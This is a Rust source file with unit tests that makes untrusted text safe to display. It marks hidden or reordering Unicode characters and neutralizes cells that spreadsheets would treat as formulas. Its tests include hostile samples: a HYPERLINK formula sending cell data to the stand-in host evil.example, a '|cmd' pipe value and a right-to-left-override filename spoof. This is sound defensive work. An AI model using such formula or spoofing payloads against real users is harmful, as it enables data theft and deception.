//! Text from outside, made harmless to read: characters that hide or reorder others stand as marks. The page does the same in
//! `lib/visible-text.ts`, by the same list.

/// Bidirectional controls, zero-width characters, line separators, soft hyphen, tags, variation selectors and the C0/C1
/// controls except tab and newline.
pub const fn is_hidden(character: char) -> bool {
    matches!(character,
        '\u{0}'..='\u{8}' | '\u{B}'..='\u{1F}' | '\u{7F}'..='\u{9F}' | '\u{AD}' | '\u{34F}' | '\u{61C}'
        | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}' | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}'
        | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}'
        | '\u{FFA0}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E0FFF}')
}

/// The text with a mark such as `⟨U+202E⟩` in the place of each hidden character.
pub fn visible(text: &str) -> String {
    use std::fmt::Write;
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        if is_hidden(character) {
            let _ = write!(shown, "⟨U+{:04X}⟩", u32::from(character));
        } else {
            shown.push(character);
        }
    }
    shown
}

/// A cell that no spreadsheet takes for a formula, whatever it holds.
pub fn cell(text: &str) -> String {
    let shown = visible(text);
    let acts = |character: char| matches!(character, '=' | '+' | '-' | '@' | '|' | '＝' | '＋' | '－' | '＠');
    let begins_blank = shown.starts_with(['\t', '\n']);
    if begins_blank || shown.trim_start().starts_with(acts) { format!("'{shown}") } else { shown }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_hides_or_reorders_is_written_out() {
        assert_eq!(visible("Mall\u{202E}gnp.exe"), "Mall⟨U+202E⟩gnp.exe");
        assert_eq!(visible("a\u{200B}b\u{0}c\u{FEFF}d\u{E0041}e"), "a⟨U+200B⟩b⟨U+0000⟩c⟨U+FEFF⟩d⟨U+E0041⟩e");
        for plain in ["Łukasz Żółć", "田中 花子", "محمد", "a\tb\nc"] {
            assert_eq!(visible(plain), plain);
        }
    }

    #[test]
    fn no_cell_is_a_formula() {
        for formula in [
            "=1+1",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "  =1",
            "\t=1",
            "\n@x",
            "＝1",
            "|cmd",
            "\u{A0}=1",
        ] {
            assert!(cell(formula).starts_with('\''), "{formula:?} → {:?}", cell(formula));
        }
        assert_eq!(cell("\u{200B}=1"), "⟨U+200B⟩=1", "begins with a mark");
        assert_eq!(cell("\r=1"), "⟨U+000D⟩=1");
        for plain in ["ana@repruv.test", "asked by phone", "a=b", "2026-11-21", ""] {
            assert_eq!(cell(plain), plain);
        }
    }
}
